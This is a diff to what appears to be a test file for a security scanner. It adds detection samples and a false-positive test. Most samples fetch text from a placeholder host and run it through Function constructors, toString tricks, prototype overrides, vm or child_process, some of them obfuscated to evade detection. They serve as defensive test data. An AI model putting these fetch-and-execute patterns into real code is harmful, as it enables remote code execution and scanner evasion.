@@ -151,6 +151,12 @@ const runs: readonly string[] = [
   "(async () => { const r = await fetch('https://h.invalid'); const j = await r.json(); Function(atob(j.a))() })()",
   "(async () => { const r = await fetch('https://h.invalid'); (async () => {}).constructor(await r.text())() })()",
   "(async () => { const r = await fetch('https://h.invalid'); [].map.constructor(await r.text())() })()",
+  "(async () => { const t = await (await fetch('https://h.invalid')).text(); class S { static run() { return fetch.constructor(t)() } } S.run() })()",
+  "(async () => { const t = await (await fetch('https://h.invalid')).text(); fetch.constructor({ toString: () => t })() })()",
+  "(async () => { const t = await (await fetch('https://h.invalid')).text(); new Function({ toString: () => t })() })()",
+  "(async () => { const t = await (await fetch('https://h.invalid')).text(); fetch.constructor({ ['toStr' + 'ing']: () => t })() })()",
+  "(async () => { const t = await (await fetch('https://h.invalid')).text(); fetch.constructor({ size: 1 }, t)() })()",
+  "(async () => { const t = await (await fetch('https://h.invalid')).text(); Object.prototype.toString = function () { return this.text }; fetch.constructor({ text: t })() })()",
   "(async () => { const r = await fetch('https://h.invalid'); const s = new (require('vm').Script)(await r.text()); s.runInThisContext() })()",
   "(async () => { const r = await fetch('https://h.invalid'); require('child_process').exec(await r.text()) })()",
   "(async () => { const r = await fetch('https://h.invalid'); require('child_process').spawn('node', ['-e', await r.text()]) })()",
@@ -240,5 +246,23 @@ t.test('code that is fetched, decoded or planted is an alarm, whatever runs it',
       line,
     )
   }
+  t.end()
+})
+
+t.test('a constructor that is given an object makes no program of it', t => {
+  const files = {
+    'package.json': manifest,
+    'i.js':
+      "const { Readable } = require('readable-stream')\n" +
+      'class Rows extends Readable {\n' +
+      '  constructor(options) { super(options); this.setUp(options) }\n' +
+      '  setUp(options) { super.constructor({ objectMode: true, highWaterMark: options.limit }) }\n' +
+      '}\n' +
+      "fetch('https://h.invalid/rows.json').then(r => r.json()).then(rows => new Rows(rows))\n",
+  }
+  t.same(
+    findingsOf({ files }).filter(({ action }) => action !== 'note'),
+    [],
+  )
   t.end()
 })
